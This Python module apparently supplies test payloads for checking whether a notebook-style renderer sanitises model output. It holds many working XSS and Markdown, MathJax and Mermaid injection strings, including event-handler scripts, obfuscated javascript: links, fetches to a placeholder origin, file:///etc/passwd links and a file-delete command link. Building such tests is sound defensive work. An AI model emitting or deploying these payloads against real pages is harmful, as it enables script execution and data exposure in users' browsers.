"""Texts by which a model may try to be active in the reader's browser.

Each payload tries at least one of four things that can be detected: it sets `window.__pwned`, it fetches from
ORIGIN, it makes an active element, or it leaves its box. WORD stands for the payload's own word, which identifies it if it
succeeds, and which must be visible if it fails.
"""

from __future__ import annotations

from collections.abc import Iterable

RUN = "window.__pwned='WORD'"
FETCH = "ORIGIN/pwned/WORD"
COVER = "position:fixed;inset:0;z-index:9999"
FOCUS = "contenteditable/autofocus/onfocus=window.__pwned=1"  # an address; in a tag, attributes

HTML = {
    "script": f"<script>{RUN}</script>",
    "script from elsewhere": f"<script src={FETCH}.js>WORD</script>",
    "script in capitals": f"<SCRIPT>{RUN}</SCRIPT\n>",
    "script in a paragraph": f"so <script>{RUN}</script> it goes",
    "image that fails": f'<img src=x: onerror="{RUN}"> WORD',
    "image without spaces": f'<img/src=x:/onerror="{RUN}"/> WORD',
    "image over lines": f'WORD <img\nsrc=x:\nonerror="{RUN}"\n>',
    "image that is not closed": f"WORD <img src=x: onerror={RUN} alt=",
    "picture set": f"<picture><source srcset={FETCH}.png><img></picture> WORD",
    "details that open": f'<details open ontoggle="{RUN}"><summary>WORD</summary>x</details>',
    "frame with a document": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe> WORD',
    "frame with a script": f'<iframe src="javascript:parent.{RUN}"></iframe> WORD',
    "object": f"<object data={FETCH}.html></object> WORD",
    "embed": f"<embed src={FETCH}.html> WORD",
    "form": f"<form action={FETCH}><input name=q><button>WORD</button></form>",
    "field with the focus": f'<input autofocus onfocus="{RUN}"> WORD',
    "box to tick": "<input type=checkbox> WORD",
    "refresh": f'<meta http-equiv=refresh content="0;url={FETCH}"> WORD',
    "base": "<base href=ORIGIN/pwned/> WORD",
    "style sheet": f"<link rel=stylesheet href={FETCH}.css> WORD",
    "prefetch": f"<link rel=prefetch href={FETCH}><link rel=preload as=image href={FETCH}.png> WORD",
    "body": f'<body onload="{RUN}" onpageshow="{RUN}"> WORD',
    "video": f'<video autoplay src={FETCH}.webm poster={FETCH}.png onerror="{RUN}"></video> WORD',
    "audio": f'<audio autoplay src=x: onerror="{RUN}"></audio> WORD',
    "marquee": f'<marquee onstart="{RUN}">WORD</marquee>',
    "animation": f'<b style="animation:spin 1s" onanimationstart="{RUN}">WORD</b>',
    "popover": "<div popover id=pwned>WORD</div><button popovertarget=pwned>x</button>",
    "dialog": "<dialog open>WORD</dialog>",
    "editable": '<div contenteditable tabindex=0 accesskey=x draggable=true class="pwned">WORD</div>',
    "template": f"<template shadowrootmode=open><script>{RUN}</script></template> WORD",
    "noscript": f'<noscript><p title="</noscript><img src=x: onerror={RUN}>">WORD</p></noscript>',
    "xmp": f"<xmp><img src=x: onerror={RUN}></xmp> WORD",
    "title": f'<title><img title="</title><img src=x: onerror={RUN}>"></title> WORD',
    "style that ends early": f'<svg><style><a id="</style><img src=x: onerror={RUN}>">WORD',
    "glyph in a table": f'<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x: onerror={RUN}>">WORD',
    "comment that ends early": f"<!--><img src=x: onerror={RUN}>--> WORD",
    "comment with a bang": f"<!-- --!><img src=x: onerror={RUN}> --> WORD",
    "comment with a blank line": f"<!--\n\n--><img src=x: onerror={RUN}>\n\nWORD -->",
    "declaration": f"<!DOCTYPE x [<!ENTITY y '<img src=x: onerror={RUN}>'>]> WORD",
    "instruction": f"<?xml ?><img src=x: onerror={RUN}>?> WORD",
    "cdata": f"<![CDATA[<img src=x: onerror={RUN}>]]> WORD",
    "tag inside a tag": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "lowered": f"<sub onclick={RUN}>WORD</sub> <sup><script>{RUN}</script></sup> <sub\n>x</sub\n>",
    "raised link": f"<sup>[WORD](javascript:{RUN}) ![x]({FETCH}.png)</sup><sub>\n\n<img src=x: onerror={RUN}></sub>",
    "breaks": f"<br onclick={RUN}>\n<br>\n<img src=x: onerror={RUN}>\n<br>\n\n<br>\n    WORD<br/><br / >",
    "link with a script": f'<a href="javascript:{RUN}">WORD</a>',
    "link that pings": f'<a href="#" ping="{FETCH}">WORD</a>',
    "map": f'<map name=m><area href="javascript:{RUN}" shape=default></map> WORD',
    "entities": f"&lt;img src=x: onerror={RUN}&gt; WORD",
    "numbered entities": f"&#60;img src=x: onerror={RUN}&#x3e; WORD",
    "entities twice": f"&amp;lt;img src=x: onerror={RUN}&amp;gt; WORD",
    "escaped": f"\\<img src=x: onerror={RUN}\\> WORD",
    "twice escaped": f"\\\\<img src=x: onerror={RUN}\\\\> WORD",
}

DRAWINGS = {
    "svg": f'<svg onload="{RUN}"><text>WORD</text></svg>',
    "svg script": f"<svg><script>{RUN}</script></svg>",
    "svg script by entities": "<svg><script>&#119;indow.__pwned='WORD'</script></svg>",
    "svg animation": f'<svg><a><animate attributeName=href values="javascript:{RUN}"/><text y=20>WORD</text></a></svg>',
    "svg begin": f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s></svg> WORD',
    "svg use": f'<svg><use href="{FETCH}.svg#x"/><image href="{FETCH}.png"/></svg> WORD',
    "svg html": f"<svg><foreignObject><img src=x: onerror={RUN}></foreignObject></svg> WORD",
    "mathml link": f'<math><mtext href="javascript:{RUN}">WORD</mtext></math>',
    "mathml action": f'<math><maction actiontype="statusline#x" xlink:href="javascript:{RUN}">WORD</maction></math>',
    "mathml annotation": f'<math><annotation-xml encoding="text/html"><img src=x: onerror={RUN}></annotation-xml></math> WORD',
}

_ADDRESSES = [
    f"javascript:{RUN}", f"JavaScript:{RUN}", f"javascript&colon;{RUN}", f"javascript&#58;{RUN}", f"javascript&#x3A{RUN}",
    f"&#106;avascript:{RUN}", f"&#x6A;&#x61;vascript:{RUN}", f"java&Tab;script:{RUN}", f"java&NewLine;script:{RUN}",
    f"&#1;javascript:{RUN}", f"javascript\\:{RUN}", f"java\\script:{RUN}", f"%6Aavascript:{RUN}", f"javascript%3A{RUN}",
    f"//javascript:{RUN}", f"javascript://ORIGIN/%0A{RUN}", f"<javascript:{RUN}>", f"<java\tscript:{RUN}>", f"\u00a0javascript:{RUN}",
    f"\u200bjavascript:{RUN}", f"\u2028javascript:{RUN}", f"\x01javascript:{RUN}", f"http:javascript:{RUN}", f"#javascript:{RUN}",
    f"livescript:{RUN}", "vbscript:msgbox(1)", f"data:text/html,<script>{RUN}</script>", f"<data:text/html,<script>{RUN}</script>>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+", "data:image/svg+xml,<svg/onload=alert(1)>",
    "command:workbench.action.terminal.new", "vscode://file/etc/passwd", "attachment:pwned.html", "file:///etc/passwd",
    "blob:ORIGIN/pwned", "view-source:ORIGIN/pwned", "filesystem:ORIGIN/pwned", "ms-settings:", "ftp://example.org/pwned",
    "pwned.html", "/lab?reset", "//example.org/pwned", "?pwned", "../pwned", "&num;pwned", "mailto&colon;pwned@example.org",
]  # fmt: skip
LINKS = {
    **{f"to {address}": f"[WORD]({address})" for address in _ADDRESSES},
    **{f"titled, to {address}": f'[WORD]({address} "title")' for address in _ADDRESSES[:4]},
    "by reference": f"[WORD][r]\n\n[r]: javascript:{RUN}",
    "by short reference": f"[WORD]\n\n[WORD]: <javascript:{RUN}> 'x'",
    "by reference over lines": f"[WORD][s]\n\n[s]:\n  javascript:{RUN}\n  'a\n  b'",
    "by a reference in a quote": f"> [t]: javascript:{RUN}\n\n[WORD][t]",
    "in angles": f"<javascript:{RUN}>",
    "of a command, in angles": "<command:WORD> <vscode://WORD>",
    "bare": f"javascript:{RUN} file:///WORD www.example.org/WORD irc://example.org data:text/html,WORD",
    "bare, to a file server": "ftp://example.org/WORD FTP://example.org/WORD",
    "with a quote": f"[WORD](https://example.org/\"onmouseover=\"{RUN})",
    "with a quote in angles": f"[WORD](<https://example.org/\" autofocus onfocus=\"{RUN}>)",
    "with a title that ends early": f"[WORD](https://example.org 'x\" onfocus=\"{RUN}\" autofocus tabindex=1 y=\"')",
    "bare, with a tag": f"https://example.org/WORD\"><img/src=x:/onerror={RUN}>",
    "bare, with code": f"https://example.org/`<img/src=x:/onerror={RUN}>`WORD",
    "with brackets": f"[WORD]](javascript:{RUN}) [a[b](javascript:{RUN})](https://example.org)",
    "with a link in its text": f"[[WORD](https://example.org)](javascript:{RUN})",
    "with attributes": f"[WORD](https://example.org){{: onclick=\"{RUN}\" .pwned #pwned style=\"{COVER}\"}}",
    "with attributes of Pandoc": f"[WORD](https://example.org){{onclick=\"{RUN}\" .pwned #pwned}}",
    "in a wiki": f"[[javascript:{RUN}|WORD]]",
    "with emphasis": f"*[WORD*](javascript:{RUN})",
    "with a line end": f"[WORD](java\nscript:{RUN})",
    "after a break": f"\\\n[WORD](https://example.org/{FOCUS})",
    "after a break in a list": f"- \\\n  [WORD](https://example.org/{FOCUS})\n\n> \\\n> <https://example.org/{FOCUS}>",
    "after breaks": f"x  \n\\\n\\\n[WORD](https://example.org/style={COVER}) \\\nhttps://example.org/{FOCUS}",
    "bare, in any script": f"https://www.münchen.example/日本_(a\"b)_(onmouseover={RUN}) https://example.org/(`WORD`)",
    "in bold, between letters": f"本**https://example.org/{FOCUS}**WORD ~~*https://example.org*~~<img/src=x:/onerror={RUN}>",
    "of a picture": f"[![WORD]({FETCH}.png)](https://example.org)",
    "of mail": "<WORD@example.org\"onmouseover=1> [x](mailto:WORD@example.org?body=<script>)",
}  # fmt: skip

PICTURES = {
    "remote": f"![WORD]({FETCH}.png)",
    "remote by reference": f"![WORD][p]\n\n[p]: {FETCH}.png",
    "in a link": f"[![WORD]({FETCH}.png)](javascript:{RUN})",
    "without a scheme": f"![WORD](//{FETCH.removeprefix('ORIGIN')}/x.png)",
    "from this server": "![WORD](files/pwned.png)",
    "attached": "![WORD](attachment:pwned.png)",
    "data": "![WORD](data:image/png;base64,iVBORw0KGgo=)",
    "drawing in data": "![WORD](data:image/svg+xml;utf8,<svg/onload=alert(1)>)",
    "script": f"![WORD](javascript:{RUN})",
    "with attributes": f'![WORD]({FETCH}.png "x" onerror={RUN})' + "{width=1}",
    "text that ends early": f'![WORD" onerror="{RUN}]({FETCH}.png)',
    "with brackets": f"![a![WORD]({FETCH}.png)]({FETCH}.png)",
    "after an escape": f"\\![WORD]({FETCH}.png)",
    "after an entity": f"&#33;[WORD]({FETCH}.png) &excl;[WORD]({FETCH}.png)",
    "after two escapes": f"\\![WORD]({FETCH}.png) !\\[WORD]({FETCH}.png) \\\\![WORD]({FETCH}.png)",
    "bang apart": f"!\u200b[WORD]({FETCH}.png) ! [WORD]({FETCH}.png) &#33;[WORD]({FETCH}.png)",
}

STYLES = {
    "overlay": f'<div style="{COVER}">WORD</div>',
    "overlay that sticks": '<p style="position:sticky;top:0;z-index:99">WORD</p>',
    "overlay of text": f'<span style="{COVER}" class="jp-Dialog pwned">WORD</span>',
    "background": f'<p style="background:url({FETCH}.png)">WORD</p>',
    "sheet": f"<style>body{{display:none}} p{{{COVER}}}</style> WORD",
    "import": f"<style>@import url({FETCH}.css); @font-face{{font-family:x;src:url({FETCH}.woff)}}</style> WORD",
    "old attributes": f'<table background="{FETCH}.png" width=9999 bgcolor=red><tr><td>WORD</table>',
    "centred": "<center><font size=7 color=white>WORD</font></center>",
    "variables": "<p style=\"--jp-layout-color1:red;content:'x'\">WORD</p>",
}

_FORMULAS = {
    "unicode": f"\\unicode[x;{COVER};background:url({FETCH})]{{65}} WORD",
    "href": f"\\href{{javascript:{RUN}}}{{WORD}}",
    "href in braces": f"{{\\href{{javascript:{RUN}}}WORD}}",
    "href by require": f"\\require{{html}}\\href{{javascript:{RUN}}}{{WORD}}",
    "url": f"\\url{{javascript:{RUN}}} WORD",
    "class": "\\class{pwned jp-Dialog}{WORD}",
    "id": "\\cssId{pwned}{WORD}",
    "style": f"\\style{{{COVER};background:url({FETCH})}}{{WORD}}",
    "data": "\\data{pwned=1}{WORD}",
    "box": f"\\bbox[red,{COVER}]{{WORD}}",
    "box with a border": f"\\bbox[1px, border:2px solid red;background:url({FETCH})]{{WORD}}",
    "enclosure": f'\\enclose{{circle}}[mathcolor="red;{COVER}"]{{WORD}}',
    "picture": f"\\includegraphics{{{FETCH}.png}} WORD",
    "token": f'\\mmlToken{{mtext}}[href="javascript:{RUN}"]{{WORD}}',
    "colour": f"\\color{{red;{COVER}}}{{WORD}}",
    "macro": f"\\def\\x{{\\href{{javascript:{RUN}}}{{WORD}}}}\\x",
    "new command": f"\\newcommand{{\\frac}}[2]{{\\href{{javascript:{RUN}}}{{WORD}}}}\\frac12",
    "let": f"\\let\\frac\\href\\frac{{javascript:{RUN}}}{{WORD}}",
    "name made up": f"\\csname href\\endcsname{{javascript:{RUN}}}{{WORD}}",
    "environment": f"\\newenvironment{{align}}{{\\href{{javascript:{RUN}}}{{WORD}}}}{{}}\\begin{{align}}x\\end{{align}}",
    "tip": f"\\mathtip{{WORD}}{{\\href{{javascript:{RUN}}}{{x}}}} \\texttip{{WORD}}{{x}}",
    "toggle": "\\toggle{WORD}{x}\\endtoggle",
    "space": "\\hspace{-99em}\\raise 99em{WORD}\\rule{99em}{99em}\\kern-99em",
    "row": "\\begin{matrix} a \\\\[-99em][-99em] WORD \\end{matrix}",
    "tag": f"<img src=x: onerror={RUN}> WORD",
    "text": f"\\text{{<img src=x: onerror={RUN}> WORD}}",
    "text with a formula": f"\\text{{$\\href{{javascript:{RUN}}}{{x}}$ WORD}}",
    "entities": f"&lt;img src=x: onerror={RUN}&gt; WORD",
    "link": f"x](javascript:{RUN}) WORD",
    "picture of Markdown": f"![x]({FETCH}.png) WORD",
    "known commands": f"\\frac{{a}}{{b}} \\text{{WORD \\textbf{{<script>{RUN}</script>}}}}",
    "comment": f"\\text{{WORD}} % $ <img src=x: onerror={RUN}>",
    "formula in words": f"\\text{{WORD $\\href{{javascript:{RUN}}}{{x}}$ \\(\\href{{javascript:{RUN}}}{{x}}\\)}}",
    "name in two pieces": f"\\h\\color{{x}}ref{{javascript:{RUN}}}{{WORD}} \\text{{\\un\\label{{x}}icode[x;{COVER}]{{65}}}}",
    "chemistry": f"\\ce{{A ->[\\href{{javascript:{RUN}}}{{x}}] B<img src=x: onerror={RUN}>}} \\pu{{1 \\href{{javascript:{RUN}}}{{WORD}}}}",
    "colour of a word": f"\\textcolor{{red;{COVER};background:url({FETCH})}}{{WORD}} \\colorbox{{red;{COVER}}}{{WORD}}",
    "many spaces back": "\\!" * 400 + "\\text{WORD}",
    "columns": f"\\begin{{array}}{{*{{99999}}{{c}}@{{\\href{{javascript:{RUN}}}{{x}}}}p{{99em}}}} WORD \\end{{array}}",
    "brace that never ends": f"\\text{{<img src=x: onerror={RUN}> WORD",
}
MATHEMATICS = {
    **{f"{name}, in a line": f"so ${formula}$ it is" for name, formula in _FORMULAS.items()},
    **{f"{name}, displayed": f"$$\n{formula}\n$$" for name, formula in _FORMULAS.items()},
    **{
        f"{name}, in brackets": f"\\({formula}\\) and \\[{formula}\\]"
        for name, formula in list(_FORMULAS.items())[:6]
    },
    **{
        f"{name}, in an environment": f"\\begin{{align}}{formula}\\end{{align}}"
        for name, formula in list(_FORMULAS.items())[:6]
    },
    "row that is typeset": "$\\begin{matrix} a \\\\[-99em] b \\end{matrix}$ $$\\begin{array}{c} a \\\\ [ -99em ] b \\end{array}$$ WORD",
    "words with a tag": f"$\\text{{a < b<img src=x: onerror={RUN.replace('=', ' ')}>}} \\text{{<b> | c}}$ WORD",
    "bars in a table": "| WORD | x |\n|---|---|\n| $\\|a\\|$ $\\text{a\\|<b>}$ | \\(\\begin{array}{c\\|c} a \\end{array}\\) |",
    "script of MathJax": f'<script type="math/tex">\\href{{javascript:{RUN}}}{{WORD}}</script>',
    "across a fence": f"```\n$\n```\n\\href{{javascript:{RUN}}}{{WORD}}\n```\n$\n```",
    "across code": f"`$` \\href{{javascript:{RUN}}}{{WORD}} `$`",
    "across a link": f"[$](https://example.org) \\href{{javascript:{RUN}}}{{WORD}} [$](https://example.org)",
    "across cells": f"| $ | \\href{{javascript:{RUN}}}{{WORD}} | $ |\n|---|---|---|\n| x | y | z |",
    "across an address": f"[WORD](https://example.org/$\\href{{javascript:{RUN}}}{{WORD}}$)",
    "across lines": f"$$ x\n\n<img src=x: onerror={RUN}>\n\nWORD $$",
    "dollars within": f"$\\$$ \\href{{javascript:{RUN}}}{{WORD}} $x \\$$ $$\\$$$ \\unicode[x;{COVER}]{{65}} $$\\$$$ $\\$\\$ y$ \\(2 \\$\\)",
    "brace behind a row": f"${{a\\\\}}$ \\href{{javascript:{RUN}}}{{WORD}} $\\begin{{matrix}}{{b\\\\}}\\end{{matrix}}$",
    "prices": f"$$ \\href{{javascript:{RUN}}}{{WORD}} $$$ <img src=x: onerror={RUN}> $$$$ x",
    "escaped dollars": f"\\$\\href{{javascript:{RUN}}}{{WORD}}\\$ \\\\$\\href{{javascript:{RUN}}}{{WORD}}\\\\$",
    "dollars by entity": f"&#36;\\href{{javascript:{RUN}}}{{WORD}}&dollar;",
    "brackets by entity": f"&bsol;(\\href{{javascript:{RUN}}}{{WORD}}&#92;)",
    "placeholders": f"@@0@@ $x$ @@1@@ $\\text{{@@0@@}}$ <img src=x: onerror={RUN}> WORD",
}

FENCES = {
    "mermaid": f'```mermaid\ngraph TD\n  A[WORD] --> B\n  click A href "javascript:{RUN}"\n  style A fill:url({FETCH})\n```',
    "mermaid picture": f'```mermaid\nflowchart TD\n  A@{{ img: "{FETCH}.png", label: "WORD" }}\n```',
    "mermaid with a setting": f'~~~ Mermaid\n%%{{init: {{"securityLevel":"loose","themeCSS":"*{{{COVER}}}"}}}}%%\ngraph LR;WORD-->B\n~~~',
    "mermaid in a list": f'- x\n\n  ```mermaid\n  graph TD; WORD; click WORD "{FETCH}"\n  ```',
    "language with a tag": f'```"><img/src=x:/onerror={RUN}>\nWORD\n```',
    "language with a class": "```html pwned jp-Dialog\nWORD\n```",
    "language of attributes": f'```{{.python onclick="{RUN}" #pwned}}\nWORD\n```',
    "language that draws": "```vega-lite\nWORD\n```\n\n```dot\nWORD\n```\n\n```plantuml\nWORD\n```\n\n```math\n\\href{javascript:1}{WORD}\n```",
    "html": f"```html\n<script>{RUN}</script>\n```",
    "html with dollars": f"```html\n$<img src=x: onerror={RUN}> WORD$\n```",
    "ticks inside": f"````\n```\n<img src=x: onerror={RUN}> WORD\n```\n````",
    "tildes and ticks": f"~~~\n```\n~~~\n<img src=x: onerror={RUN}> WORD\n```",
    "ticks with ticks in the language": f"```a`b\n<img src=x: onerror={RUN}> WORD\n```",
    "indented end": f"```\nx\n    ```\n<img src=x: onerror={RUN}> WORD\n```",
    "in a list": f"- a\n  ```\n  <img src=x: onerror={RUN}> WORD\n  ```",
    "in a list, less indented": f"1. a\n ```\n <img src=x: onerror={RUN}> WORD\n ```",
    "in a quote": f"> ```\n> <img src=x: onerror={RUN}> WORD\n\n<img src=x: onerror={RUN}>",
    "in a quote that ends": f"> ```\n<img src=x: onerror={RUN}> WORD\n> ```",
    "by indentation": f"    <img src=x: onerror={RUN}> WORD",
    "by a tab": f"\t<img src=x: onerror={RUN}> WORD",
    "indented after a paragraph": f"x\n    <img src=x: onerror={RUN}> WORD",
    "in a line": f"`<img src=x: onerror={RUN}> WORD`",
    "in a line, over two": f"`x\n<img src=x: onerror={RUN}> WORD`",
    "in a line, not paired": f"``x` <img src=x: onerror={RUN}> WORD `y``",
    "in a line, escaped": f"\\`<img src=x: onerror={RUN}> WORD`",
    "with a link": f"`` [WORD](javascript:{RUN}) ``",
    "with a blank": f"` `<img src=x: onerror={RUN}>` ` WORD",
}

JUPYTER = {
    "command": '<button data-commandlinker-command="help:about" data-commandlinker-args="{}">WORD</button>',
    "command on a link": '<a href="#" data-commandlinker-command="filebrowser:delete" class="pwned">WORD</a>',
    "dialog": f'<div class="jp-Dialog jp-mod-pwned lm-Widget" id="pwned" style="{COVER}">WORD</div>',
    "panel": '<div id="jp-main-dock-panel" class="lm-Widget pwned">WORD</div>',
    "hidden output": '<div class="jp-mod-hidden lm-mod-hidden pwned">WORD</div>',
    "widget": '<script type="application/vnd.jupyter.widget-view+json">{"model_id":"pwned"}</script> WORD',
    "config": '<script id="jupyter-config-data" type="application/json">{"baseUrl":"ORIGIN/pwned/"}</script> WORD',
    "heading with an id": '# WORD {#pwned .pwned onclick="window.__pwned=1"}',
    "heading that shadows": "# MathJax\n\n# require\n\n# jupyterapp\n\n# WORD",
    "kernel": "<a href='/api/kernels' data-jupyter-action=pwned>WORD</a> [x](/api/kernels) [y](/logout)",
}

STRUCTURE = {
    "table": f"| WORD | <img src=x: onerror={RUN}> |\n|---|---|\n| [x](javascript:{RUN}) | `a|b` <b onclick={RUN}> |",
    "table in code": f"| `a | <img src=x: onerror={RUN}>` | WORD |\n|---|---|---|\n| `a \\| <img src=x: onerror={RUN}>` | 1 | 2 |",
    "table with styles": f'|<td style="{COVER}">|WORD|\n|:-:|--:|\n|x|y|',
    "table without a rule": f"a | b\nWORD | <img src=x: onerror={RUN}>",
    "footnote": f"WORD[^1]\n\n[^1]: [x](javascript:{RUN}) <img src=x: onerror={RUN}>",
    "footnote in a line": f"WORD^[<img src=x: onerror={RUN}>]",
    "abbreviation": f'*[WORD]: "><img src=x: onerror={RUN}>\n\nWORD',
    "definitions": f"WORD\n: <img src=x: onerror={RUN}>",
    "tasks": f"- [ ] WORD <img src=x: onerror={RUN}>\n- [x] [y](javascript:{RUN})",
    "list in a quote in a list": f"- > 1. <script>{RUN}</script>\n  > 2. WORD",
    "lazy quote": f"> WORD\n<script>{RUN}</script>",
    "quote of a tag over lines": f"> <img\n> src=x:\n> onerror={RUN}> WORD",
    "heading": f"# <img src=x: onerror={RUN}> WORD",
    "heading by a line": f"<img src=x: onerror={RUN}> WORD\n===",
    "heading of a definition": f"[u]: javascript:{RUN}\n===\n\n[WORD][u]",
    "html, then Markdown": f"<div markdown=1>\n\n[WORD](javascript:{RUN})\n\n</div>",
    "html in emphasis": f"**<b onclick={RUN}>WORD**</b>",
    "html in a link": f"[<img src=x: onerror={RUN}> WORD](https://example.org)",
    "line break": f"WORD  \n<img src=x: onerror={RUN}>\\\n<img src=x: onerror={RUN}>",
    "front matter": f"---\ntitle: <script>{RUN}</script>\n---\n\nWORD",
    "directive": f":::{{raw}} html\n<script>{RUN}</script>\n:::\n\nWORD",
    "role": f"{{raw-html}}`<img src=x: onerror={RUN}>` WORD",
    "include": "{{% include 'ORIGIN/pwned' %}} {{{{ WORD }}}} <%= WORD %> ${WORD}",
    "admonition": f"!!! note \"<img src=x: onerror={RUN}>\"\n    WORD",
    "many quotes": ">" * 60 + f" <img src=x: onerror={RUN}> WORD",
    "many emphases": "*" * 60 + f"<img src=x: onerror={RUN}> WORD" + "*" * 59,
}  # fmt: skip

CHARACTERS = {
    "direction": f"\u202e<img src=x: onerror={RUN}>\u202c WORD \u2066[x](javascript:{RUN})\u2069",
    "zero": f"<scr\x00ipt>{RUN}</scr\x00ipt>\x00",
    "controls": f"<\x0bimg src=x: onerror={RUN}> <img\x0csrc=x:\x0conerror={RUN}> \x1b]8;;javascript:1\x07WORD\x1b]8;;\x07",
    "terminal": "\x1b[31mWORD\x1b[0m \x9b2J \x1b[2J",
    "separators": f"WORD\u2028<img src=x: onerror={RUN}>\u2029<img src=x: onerror={RUN}>\x85<script>{RUN}</script>",
    "returns": f"WORD\r<script>{RUN}</script>\r\n\r<img src=x: onerror={RUN}>",
    "wide": f"＜script＞{RUN}＜/script＞ ﹤img src=x: onerror={RUN}﹥",
    "surrogates": f"\ud83d<img src=x: onerror={RUN}>\ude00 WORD",
    "order marks": f"\ufeff<script>{RUN}</script>\ufeff",
    "combining": "WORD" + "\u0301\u0489" * 200,
    "private": f"\ue000<img src=x: onerror={RUN}>\uf8ff WORD \U000e0001\U000e007f",
    "line ends by entity": f"WORD&#13;&#10;&#10;<img src=x: onerror={RUN}>&#13;# x&#10;&#9;[x](javascript:{RUN})",
    "direction in code": f"`\u2066<img src=x: onerror={RUN}>\u2069 WORD\u202e`",
    "stuffing of Python-Markdown": f"\x02wzxhzdk:0\x03 \x02klzzwxh:0001\x03 \u0002amp\u0003 <img src=x: onerror={RUN}> WORD",
}

# Payloads that run to the end of their answer: each has its own.
UNCLOSED = {
    "plaintext": f"<plaintext><img src=x: onerror={RUN}> WORD",
    "comment": f"<!-- WORD\n\n<img src=x: onerror={RUN}>",
    "text area": f"<textarea>WORD\n\n</textarea><img src=x: onerror={RUN}>",
    "fence": f"```\nx\n\n<img src=x: onerror={RUN}> WORD",
    "fence in a list": f"- ```\n  x\n\n<img src=x: onerror={RUN}> WORD",
    "formula": f"$$\nx <img src=x: onerror={RUN}> WORD",
    "attribute": f"<a title='WORD\n\n<img src=x: onerror={RUN}>\n\n'onclick={RUN}>",
}

GROUPS = {
    "html": HTML, "drawings": DRAWINGS, "links": LINKS, "pictures": PICTURES, "styles": STYLES, "mathematics": MATHEMATICS,
    "fences": FENCES, "jupyter": JUPYTER, "structure": STRUCTURE, "characters": CHARACTERS,
}  # fmt: skip

# Payloads for the other fields of a server's reply: the beginning decides how a line of Markdown is read.
FIELDS = [
    f"WORD <script>{RUN}</script><img src={FETCH}.png onerror={RUN}> [x](javascript:{RUN}) ![x]({FETCH}.png) $\\href{{javascript:1}}{{x}}$",
    f"```\n<script>{RUN}</script>\n```\nWORD",
    f"~~~html\n\n<img src={FETCH}.png onerror={RUN}>\n~~~\n\nWORD",
    f"- <b onclick={RUN}>\n\n    <script>{RUN}</script>\n\n# WORD\n\n<iframe src={FETCH}>",
    f"</pre></summary></details></script><script>{RUN}</script>-->]]><svg onload={RUN}>\"'><img src=x: onerror={RUN}> WORD",
    f"$$\n<script>{RUN}</script>\n$$\n`\n<script>{RUN}</script>\n` WORD",
    f"| a |\n|---|\n| <script>{RUN}</script> |\n\n[r]: javascript:{RUN}\n\n[WORD][r]",
]


def answers(origin: str) -> dict[str, str]:
    """The answers with all payloads, by name: one for each group, and one for each unclosed payload."""
    texts = {name: "\n\n".join(_filled(name, group.values())) for name, group in GROUPS.items()}
    texts |= {
        f"unclosed {number}": text
        for number, text in enumerate(_filled("unclosed", UNCLOSED.values()))
    }
    return {name: text.replace("ORIGIN", origin) for name, text in texts.items()}


def fields(origin: str, name: str) -> list[str]:
    """The values for the field of this name, in order."""
    return [text.replace("ORIGIN", origin) for text in _filled(name, FIELDS)]


def each(origin: str) -> dict[str, str]:
    """Every payload by its name, with WORD still in it."""
    groups = (GROUPS | {"unclosed": UNCLOSED}).items()
    return {
        f"{name}: {key}": text.replace("ORIGIN", origin)
        for name, group in groups
        for key, text in group.items()
    }


def words(*names: str) -> dict[str, str]:
    """The name of each payload by its word; with names of fields, only of the payloads in these fields."""
    groups = dict.fromkeys(names, FIELDS) or GROUPS | {"unclosed": UNCLOSED}
    return {
        _word(name, number): f"{name}: {key}"
        for name, group in groups.items()
        for number, key in enumerate(group)
    }


def _filled(name: str, texts: Iterable[str]) -> list[str]:
    return [text.replace("WORD", _word(name, number)) for number, text in enumerate(texts)]


def _word(name: str, number: int) -> str:
    return f"{name}{number}x"
